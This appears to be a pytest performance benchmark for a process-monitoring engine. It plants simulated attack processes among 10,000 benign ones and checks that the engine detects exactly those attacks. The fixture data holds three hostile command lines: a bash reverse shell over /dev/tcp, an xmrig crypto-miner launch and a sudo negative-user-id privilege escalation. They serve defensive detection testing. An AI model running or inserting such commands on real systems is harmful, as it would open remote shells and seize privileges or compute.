"""The engine's figures (issue 3): 100 rules per tick over 100 new instances at 10,000 live
processes (target ≤ 10 ms) and a full evaluation of 100 rules over 10,000 processes (target
≤ 250 ms). Figures are printed (`pytest -s`), never asserted: the assertions are that the
planted attacks, and only they, are found at that scale."""

from __future__ import annotations

import dataclasses
import random
import statistics
import time
from pathlib import Path

from daemoneye.engine.evaluator import Evaluator
from daemoneye.engine.rule_loader import load_rules
from daemoneye.models import ProcessRecord, Rule, ScanDelta, ScanStats
from daemoneye.paths import BUILTIN_RULES_DIR
from daemoneye.store import Store

LIVE = 10_000
NEW_PER_TICK = 100
RULES = 100
TICKS = 30

_PROGRAMS = [
    ("nginx", "/usr/sbin/nginx", "nginx: worker process"),
    ("sshd", "/usr/sbin/sshd", "sshd: alice@pts/0"),
    ("bash", "/usr/bin/bash", "-bash"),
    ("python3", "/usr/bin/python3.11", "python3 /opt/app/worker.py --queue default"),
    ("postgres", "/usr/lib/postgresql/16/bin/postgres", "postgres: 16/main: checkpointer"),
    ("java", "/usr/lib/jvm/java-17/bin/java", "java -Xmx2g -jar /opt/svc/svc.jar"),
    ("node", "/usr/bin/node", "node /srv/web/server.js"),
    ("sleep", "/usr/bin/sleep", "sleep 3600"),
    ("cron", "/usr/sbin/cron", "/usr/sbin/cron -f"),
    (
        "containerd-shim",
        "/usr/bin/containerd-shim-runc-v2",
        "/usr/bin/containerd-shim-runc-v2 -namespace moby -id 4f1c -address /run/containerd.sock",
    ),
]
_SERVICES = ("nginx", "postgres", "java", "node", "sshd", "cron", "containerd-shim")
_ATTACKS = [
    (
        "bash",
        "/usr/bin/bash",
        "bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
        "reverse-shell-dev-tcp",
    ),
    ("xmrig", "/var/tmp/.x/xmrig", "xmrig -o stratum+tcp://203.0.113.7:3333", "crypto-miner"),
    ("sudo", "/usr/bin/sudo", "sudo -u#-1 /bin/bash", "sudo-negative-user-id"),
]


def _record(pid: int, start: float, ppid: int, program: tuple[str, str, str]) -> ProcessRecord:
    name, exe, cmdline = program
    return ProcessRecord(
        pid,
        ppid,
        start,
        name,
        exe,
        tuple(cmdline.split(" ")),
        "/",
        1000,
        "alice",
        1000,
        "S",
        1,
        4096,
        0.0,
        None,
        False,
        start,
        start,
    )


def _tick(ts: float, added: list[ProcessRecord]) -> ScanDelta:
    return ScanDelta(ts, tuple(added), (), (), (), (), ScanStats(0.0, 0, 0, 0, 0, 0, 0))


def hundred_rules() -> list[Rule]:
    """The built-in pack, repeated under new ids up to 100 rules."""
    pack = list(load_rules([BUILTIN_RULES_DIR]).rules)
    return [
        dataclasses.replace(pack[i % len(pack)], id=f"{pack[i % len(pack)].id}.{i}")
        for i in range(RULES)
    ]


def test_evaluation_at_ten_thousand_live_processes(tmp_path: Path) -> None:
    rng = random.Random(3)
    store = Store.open(tmp_path / "bench.db")
    # a plausible tree: services under init, everything else under a shell, sshd or cron
    live: list[ProcessRecord] = []
    benign_parents = [1]
    for i in range(LIVE):
        program = rng.choice(_PROGRAMS)
        under_init = program[0] in _SERVICES or i < 50
        record = _record(
            1000 + i, 1.0 + i / 1000, 1 if under_init else rng.choice(benign_parents), program
        )
        live.append(record)
        if program[0] in ("sshd", "bash", "cron", "containerd-shim"):
            benign_parents.append(record.pid)
    for chunk in range(0, LIVE, 2000):
        store.apply(_tick(20.0, live[chunk : chunk + 2000]))
    # new processes start under benign parents (a shell under nginx would rightly be found)
    parents = benign_parents[1:]
    rules = hundred_rules()
    evaluator = Evaluator(store.path, rules)
    next_pid, ts = 100_000, 100.0
    tick_ms: list[float] = []
    tick_cpu_ms: list[float] = []  # CPU time: the figure a busy test machine distorts least
    found: set[tuple[str, int]] = set()
    planted: set[tuple[str, int]] = set()
    try:
        full_ms: list[float] = []
        full_cpu_ms: list[float] = []
        for _ in range(3):
            started, cpu = time.perf_counter(), time.process_time()
            full = evaluator.evaluate_full()
            full_ms.append((time.perf_counter() - started) * 1000)
            full_cpu_ms.append((time.process_time() - cpu) * 1000)
        assert (full.failures, full.detections) == ((), ())
        for tick in range(TICKS):
            ts += 1.0
            added = [
                _record(next_pid + i, ts, rng.choice(parents), rng.choice(_PROGRAMS))
                for i in range(NEW_PER_TICK)
            ]
            name, exe, cmdline, rule_id = _ATTACKS[tick % len(_ATTACKS)]
            added[-1] = _record(next_pid + NEW_PER_TICK - 1, ts, 1000, (name, exe, cmdline))
            planted.add((rule_id, added[-1].pid))
            next_pid += NEW_PER_TICK
            store.apply(_tick(ts, added))
            started, cpu = time.perf_counter(), time.process_time()
            result = evaluator.evaluate_changes([r.key for r in added])
            tick_ms.append((time.perf_counter() - started) * 1000)
            tick_cpu_ms.append((time.process_time() - cpu) * 1000)
            assert result.failures == ()
            found |= {(d.rule_id.rsplit(".", 1)[0], d.pid) for d in result.detections}
        slowest = sorted(full.timings_ms, key=lambda timing: -timing[1])[:3]
    finally:
        evaluator.close()
        store.close()
    # exactly the planted attacks were found (some match more than one rule)
    assert planted <= found
    assert {pid for _, pid in found} == {pid for _, pid in planted}
    warm = sorted(tick_ms[1:])
    print(
        f"\nper tick, {RULES} rules, {NEW_PER_TICK} new of {LIVE + NEW_PER_TICK * TICKS} "
        f"processes: first {tick_ms[0]:.2f} ms, median {statistics.median(warm):.2f} ms, "
        f"p95 {warm[int(len(warm) * 0.95) - 1]:.2f} ms, max {warm[-1]:.2f} ms, median CPU "
        f"{statistics.median(tick_cpu_ms[1:]):.2f} ms (target 10 ms)"
    )
    print(
        f"full evaluation, {RULES} rules over {LIVE} processes: "
        f"median {statistics.median(full_ms):.1f} ms of {[round(m) for m in full_ms]}, "
        f"median CPU {statistics.median(full_cpu_ms):.1f} ms "
        f"(target 250 ms); slowest rules {slowest}"
    )
